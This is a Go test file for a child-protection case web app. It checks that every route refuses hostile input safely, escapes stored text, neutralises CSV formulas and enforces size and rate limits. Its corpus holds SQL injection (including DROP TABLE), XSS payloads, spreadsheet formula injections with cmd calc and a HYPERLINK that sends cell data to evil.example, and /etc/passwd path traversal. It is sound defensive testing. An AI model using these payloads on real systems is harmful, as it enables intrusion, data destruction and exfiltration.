package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"treem/internal/auth"
	"treem/internal/testenv"
)

// hostile are strings an attacker sends: SQL, HTML and script, spreadsheet
// formulas, path traversal, overlong and invalid UTF-8, NUL bytes, and long
// text.
var hostile = []string{
	`' OR 1=1--`,
	`'; DROP TABLE children;--`,
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`../../etc/passwd`,
	`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
	"\xc0\xaf\xc0\xae",
	"L\xf2 Th\xe1 Mai \xff\xfe",
	"Lò\x00Thị Mai",
	strings.Repeat("Trẻ em ", 500), // 4 kB (10 MB bodies: TestHugeAndDeepBodiesAreRefused)
}

// bigString is 10 MB: bodies that size must be refused by the size limit.
var bigString = strings.Repeat("x", 10<<20)

// tables whose rows a refused request must not change.
var watchedTables = []string{"children", "child_caregivers", "child_groups", "child_history", "supports",
	"child_imports", "contacts", "contact_children", "hotline_referrals", "hotline_messages", "users",
	"consents", "erasures", "aggregate_returns"}

// snapshot counts the rows of the watched tables (and a few sums), to see
// that a refused request changed nothing.
func snapshot(t *testing.T, h *testenv.Env) string {
	t.Helper()
	var b strings.Builder
	for _, table := range watchedTables {
		var n int64
		q := "SELECT COUNT(*) FROM " + table
		if err := h.App.DB.Read().QueryRowContext(context.Background(), q).Scan(&n); err != nil {
			continue // a table of an area not in this build
		}
		fmt.Fprintf(&b, "%s=%d ", table, n)
	}
	for _, q := range []string{"SELECT COALESCE(SUM(version), 0) FROM children", "SELECT COALESCE(SUM(updated_at), 0) FROM contacts",
		"SELECT COALESCE(SUM(version), 0) FROM consents"} {
		var n int64
		if err := h.App.DB.Read().QueryRowContext(context.Background(), q).Scan(&n); err == nil {
			fmt.Fprintf(&b, "%d ", n)
		}
	}
	return b.String()
}

// rawQuery encodes a value for a query string byte by byte, so that
// invalid UTF-8 and NUL bytes arrive as sent.
func rawQuery(v string) string {
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// queryParams are every query parameter a route reads.
var queryParams = []string{"q", "unit", "group", "helped", "age", "year", "limit", "next", "before", "format",
	"from", "to", "period", "pe", "ou", "dx", "code", "channel", "state", "urgency", "reason", "actor", "action",
	"record_type", "record_id", "outcome", "lang", "name", "indicator", "level", "kind", "status", "mine"}

// formFields are the fields of the site's forms, filled with the payload.
var formFields = []string{"name", "dob", "sex", "commune", "pid", "address", "phone", "notes", "version", "kind",
	"date", "amount_vnd", "provider", "status", "note", "duplicate", "description", "summary", "text", "username",
	"password", "code", "basis", "given_by", "relation", "given_on", "reason", "email", "role", "unit", "extension",
	"hours", "channel", "caller_name", "old_password", "new_password", "lang", "next", "form", "value"}

func TestHostileInputGetsA4xxAndChangesNothing(t *testing.T) {
	testenv.Each(t, hostileCorpus)
}

func hostileCorpus(t *testing.T, h *testenv.Env) {
	fx := newFixtures(t, h)
	clients := map[auth.Role]*testenv.Client{}
	for _, r := range auth.Roles {
		clients[r] = h.User(t, r, roleUnits[r])
	}
	sameSite := func(hdr http.Header) http.Header {
		hdr.Set("Sec-Fetch-Site", "same-origin")
		return hdr
	}
	for _, rt := range h.App.Web.Routes() {
		c, ok := matrix[rt.Pattern]
		if !ok {
			continue // the permission matrix reports it
		}
		method, pattern, found := strings.Cut(rt.Pattern, " ")
		if !found {
			method, pattern = "GET", rt.Pattern
		}
		// The caller: the first role the rule lets through (the route's
		// own checks are then what the payloads meet).
		var cl *testenv.Client
		for _, r := range auth.Roles {
			if rt.Rule.Public || rt.Rule.Allows(&auth.Principal{Role: r}) {
				cl = clients[r]
				break
			}
		}
		if cl == nil {
			continue
		}
		path := fill(pattern, fx.ids(c.kind, true))
		if pattern == "GET /static/" || strings.HasPrefix(pattern, "/static/") {
			continue
		}
		for _, p := range hostile {
			// Every query parameter at once, and the payload in place of
			// each path parameter.
			var qs []string
			for _, name := range queryParams {
				qs = append(qs, name+"="+rawQuery(p))
			}
			paths := []string{path + "?" + strings.Join(qs, "&")}
			for _, param := range c.params {
				ids := map[string]string{}
				for k, v := range fx.ids(c.kind, true) {
					ids[k] = v
				}
				ids[param] = rawQuery(p)
				paths = append(paths, fill(pattern, ids))
			}
			for _, target := range paths {
				before := ""
				if method != http.MethodGet {
					before = snapshot(t, h)
				}
				var res *testenv.Response
				switch method {
				case http.MethodGet:
					res = cl.Do(t, method, target, nil, sameSite(http.Header{}))
				default:
					res = cl.Do(t, method, target, strings.NewReader(c.body), sameSite(http.Header{"Content-Type": {contentType(c)}}))
				}
				check(t, h, rt.Pattern, "query/path", p, res, before, method != http.MethodGet)
			}
			if method == http.MethodGet {
				continue
			}
			// Bodies: the payload as the whole body, as every JSON string
			// field, and as every form field.
			bodies := map[string]struct{ ct, body string }{
				"raw json": {"application/json", p},
				"json obj": {"application/json", jsonWith(c.body, p)},
				"form":     {"application/x-www-form-urlencoded", formWith(p)},
			}
			if strings.Contains(pattern, "import") {
				bodies["multipart"] = struct{ ct, body string }{"multipart/form-data; boundary=x",
					"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + p + "\"\r\n\r\n" + p + "\r\n--x--\r\n"}
			}
			for what, b := range bodies {
				before := snapshot(t, h)
				res := cl.Do(t, method, path, strings.NewReader(b.body), sameSite(http.Header{"Content-Type": {b.ct}}))
				check(t, h, rt.Pattern, what, p, res, before, true)
			}
		}
		h.Clock.Advance(time.Minute) // let the rate limits refill
	}
	if rep, err := h.App.Audit.Verify(context.Background()); err != nil || !rep.OK() {
		t.Fatalf("audit chain after the hostile corpus: %v %v", rep.Breaks, err)
	}
	t.Logf("answers by class: %v", answers)
}

// answers counts the answers of the hostile corpus by status class.
var answers = map[int]int{}

func contentType(c routeCase) string {
	if c.form {
		return "application/x-www-form-urlencoded"
	}
	return "application/json"
}

// jsonWith is the route's JSON body with the payload in the common fields
// (unknown fields are refused, which is a fine answer too).
func jsonWith(body, p string) string {
	var b bytes.Buffer
	b.WriteString(`{"name":`)
	writeJSONString(&b, p)
	b.WriteString(`,"description":`)
	writeJSONString(&b, p)
	b.WriteString(`}`)
	return b.String()
}

// writeJSONString writes s as a JSON string, keeping its bytes (invalid
// UTF-8 included) as they are, escaping only what JSON requires.
func writeJSONString(b *bytes.Buffer, s string) {
	b.WriteByte('"')
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			fmt.Fprintf(b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
}

func formWith(p string) string {
	var parts []string
	for _, f := range formFields {
		parts = append(parts, f+"="+rawQuery(p))
	}
	return strings.Join(parts, "&")
}

// check asserts a clear answer: never a 5xx; and when a write was
// refused, no data changed.
func check(t *testing.T, h *testenv.Env, route, what, payload string, res *testenv.Response, before string, write bool) {
	t.Helper()
	answers[res.Code/100*100]++
	short := payload
	if len(short) > 40 {
		short = short[:40] + "…"
	}
	if res.Code >= 500 {
		t.Errorf("%s (%s) with %q: %d %.300s", route, what, short, res.Code, res.Body)
		return
	}
	if write && res.Code >= 400 {
		if after := snapshot(t, h); after != before {
			t.Errorf("%s (%s) with %q was refused (%d) but changed data:\n before %s\n after  %s", route, what, short, res.Code, before, after)
		}
	}
	if res.Code >= 400 && strings.Contains(res.Header.Get("Content-Type"), "json") && !bytes.Contains(res.Body, []byte(`"error"`)) {
		t.Errorf("%s (%s) with %q: %d without an error object: %.200s", route, what, short, res.Code, res.Body)
	}
}

// TestHugeAndDeepBodiesAreRefused sends 10 MB strings, 100 000-deep JSON
// and an oversized upload to the routes that take bodies.
func TestHugeAndDeepBodiesAreRefused(t *testing.T) {
	testenv.Each(t, func(t *testing.T, h *testenv.Env) {
		officer := h.User(t, auth.CommuneOfficer, "00004")
		counsellor := h.User(t, auth.Counsellor, "")
		id := createChild(t, officer, `{"name":"Lò Thị Sâu","dob":"2016","sex":"Nữ","commune":"00004"}`)
		deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
		deepObj := strings.Repeat(`{"a":`, 100000) + "1" + strings.Repeat("}", 100000)
		before := snapshot(t, h)
		for _, tc := range []struct {
			c    *testenv.Client
			path string
		}{
			{officer, "/api/v1/children"},
			{officer, "/api/v1/children/match"},
			{officer, "/api/v1/personal-data/children/" + id + "/consents"},
			{counsellor, "/api/v1/contacts"},
			{h.Anonymous(), "/api/v1/public/reports"},
		} {
			for name, body := range map[string]string{
				"10 MB string": `{"name":"` + bigString + `"}`,
				"10 MB body":   bigString,
				"deep array":   deep,
				"deep object":  deepObj,
			} {
				code, err := send(h, tc.c, http.MethodPost, tc.path, "application/json", strings.NewReader(body))
				if err == nil && (code < 400 || code >= 500) {
					t.Errorf("POST %s with %s: %d, want a 4xx", tc.path, name, code)
				}
			}
			h.Clock.Advance(time.Minute)
		}
		// A form post of 10 MB, and an upload past the import limit.
		code, err := send(h, officer, http.MethodPost, "/children", "application/x-www-form-urlencoded", strings.NewReader("name="+bigString))
		if err == nil && code != http.StatusRequestEntityTooLarge {
			t.Errorf("10 MB form: %d", code)
		}
		if after := snapshot(t, h); after != before {
			t.Errorf("refused bodies changed data:\n before %s\n after  %s", before, after)
		}
		// An upload bigger than the import limit (256 MB) is cut off
		// without being read whole: a reader that would go on for ever.
		admin := h.User(t, auth.Admin, "")
		code, err = send(h, admin, http.MethodPost, "/api/v1/children/imports?name=big.csv", "text/csv", io.LimitReader(endless{}, 300<<20))
		if err == nil && code != http.StatusRequestEntityTooLarge {
			t.Errorf("300 MB import: %d", code)
		}
	})
}

// endless is an endless CSV of one repeated line.
type endless struct{}

func (endless) Read(p []byte) (int, error) {
	const line = "Lò Thị Mai,01/01/2016,Nữ,,00004,b,\n"
	n := 0
	for n < len(p) {
		n += copy(p[n:], line)
	}
	return n, nil
}

// send posts a body; a connection the server closed after refusing the
// body counts as refused (err is then set and the code 0).
func send(h *testenv.Env, c *testenv.Client, method, path, ct string, body io.Reader) (int, error) {
	req, err := http.NewRequest(method, h.URL+path, body)
	if err != nil {
		return 0, err
	}
	req.Header.Set("Content-Type", ct)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	if tok := c.Token(); tok != "" {
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err
	}
	io.Copy(io.Discard, res.Body)
	res.Body.Close()
	return res.StatusCode, nil
}

// TestStoredHostileTextIsEscapedWhereverItIsShown stores script, markup
// and formulas in the fields that take free text, then reads them back as
// pages, JSON and CSV.
func TestStoredHostileTextIsEscapedWhereverItIsShown(t *testing.T) {
	testenv.Each(t, func(t *testing.T, h *testenv.Env) {
		officer := h.User(t, auth.CommuneOfficer, "00004")
		const script, img = `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`
		formula := `=HYPERLINK("http://evil.example","x")`
		res := officer.Post(t, "/api/v1/children", map[string]any{"name": "Lò Thị Mai", "dob": "2016", "sex": "Nữ", "commune": "00004",
			"address": formula, "notes": script + img, "caregivers": []map[string]string{{"name": "@SUM(1+1)", "relation": "mother"}}})
		if res.Code != http.StatusCreated {
			t.Fatalf("create: %s", res)
		}
		id := fmt.Sprint(res.Data(t)["id"])
		if res := officer.Post(t, "/api/v1/children/"+id+"/supports", map[string]any{"kind": "education", "date": "01/09/2026",
			"provider": "+cmd|' /C calc'!A0", "note": script}); res.Code != http.StatusCreated {
			t.Fatalf("support: %s", res)
		}
		counsellor := h.User(t, auth.Counsellor, "")
		res = counsellor.Post(t, "/api/v1/contacts", map[string]any{"channel": "walk_in", "summary": script + img,
			"caller": map[string]any{"name": img}})
		if res.Code != http.StatusCreated {
			t.Fatalf("contact: %s", res)
		}
		contact := fmt.Sprint(res.Data(t)["id"])
		anon := h.Anonymous()
		if res := anon.Post(t, "/api/v1/public/reports", map[string]any{"description": "Em bé bị đánh " + script + img,
			"commune": "00004", "anonymous": true}); res.Code != http.StatusCreated {
			t.Fatalf("public report: %s", res)
		}

		// JSON: no raw markup (the encoder escapes < > &).
		for _, c := range []struct {
			cl   *testenv.Client
			path string
		}{{officer, "/api/v1/children/" + id}, {counsellor, "/api/v1/contacts/" + contact}, {counsellor, "/api/v1/contacts"},
			{officer, "/api/v1/children?q=Mai"}} {
			res := c.cl.Get(t, c.path)
			if res.Code != http.StatusOK || bytes.Contains(res.Body, []byte("<script")) || bytes.Contains(res.Body, []byte("<img")) {
				t.Errorf("%s: %d, raw markup in JSON: %.300s", c.path, res.Code, res.Body)
			}
		}
		// Pages: escaped.
		ob := h.Browser(t)
		loginAs(t, h, ob, officer)
		cb := h.Browser(t)
		loginAs(t, h, cb, counsellor)
		for _, c := range []struct {
			cl   *testenv.Client
			path string
		}{{ob, "/children/" + id}, {ob, "/children?q=Mai"}, {ob, "/children/" + id + "/privacy"}, {cb, "/hotline/contacts/" + contact},
			{cb, "/hotline/contacts"}, {cb, "/hotline"}} {
			res := c.cl.Get(t, c.path)
			if res.Code != http.StatusOK {
				t.Errorf("%s: %d", c.path, res.Code)
				continue
			}
			if bytes.Contains(res.Body, []byte(script)) || bytes.Contains(res.Body, []byte("<img src=x")) {
				t.Errorf("%s shows stored markup unescaped", c.path)
			}
		}
		// CSV export: formulas neutralised.
		res = officer.Get(t, "/api/v1/children/export?format=csv")
		if res.Code != http.StatusOK {
			t.Fatalf("export: %s", res)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\xef\xbb\xbf"))))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("CSV cell %q starts a formula", cell)
				}
				if strings.Contains(cell, "HYPERLINK") {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("the hostile address is not in the export (%d rows)", len(rows))
		}
	})
}

func isNumber(s string) bool {
	_, err := fmt.Sscanf(s, "%g", new(float64))
	return err == nil && !strings.ContainsAny(s, "|!(")
}

// TestLoginAndLookupsAreRateLimited: a client guessing passwords or
// tracking codes gets 429 with Retry-After and a clear message, and gets
// through again when the bucket refills.
func TestLoginAndLookupsAreRateLimited(t *testing.T) {
	h := testenv.New(t)
	u := h.User(t, auth.CommuneOfficer, "00004")
	b := h.Browser(t)
	var last *testenv.Response
	for i := 0; i < 21; i++ {
		last = b.PostForm(t, "/login", url.Values{"username": {fmt.Sprintf("guess%d", i)}, "password": {"wrong password 1"}})
	}
	if last.Code != http.StatusTooManyRequests || last.Header.Get("Retry-After") == "" {
		t.Fatalf("the 21st login in a minute: %d %s", last.Code, last.Header)
	}
	if !strings.Contains(string(last.Body), "Retry") && !strings.Contains(string(last.Body), "thử lại") {
		t.Errorf("the refusal does not say when to try again: %.300s", last.Body)
	}
	h.Clock.Advance(time.Minute)
	if res := b.Login(t, u.Username, testenv.Password); res.Code != http.StatusSeeOther {
		t.Fatalf("after a minute the right password: %s", res)
	}
	anon := h.Anonymous()
	for i := 0; i < 21; i++ {
		last = anon.Get(t, fmt.Sprintf("/api/v1/public/reports/TR-%06d", i))
	}
	if last.Code != http.StatusTooManyRequests || last.Header.Get("Retry-After") == "" {
		t.Fatalf("the 21st status look-up in a minute: %s", last)
	}
	code, _, _ := last.Error(t)
	if code != "rate_limited" {
		t.Fatalf("look-up refusal code %q", code)
	}
}
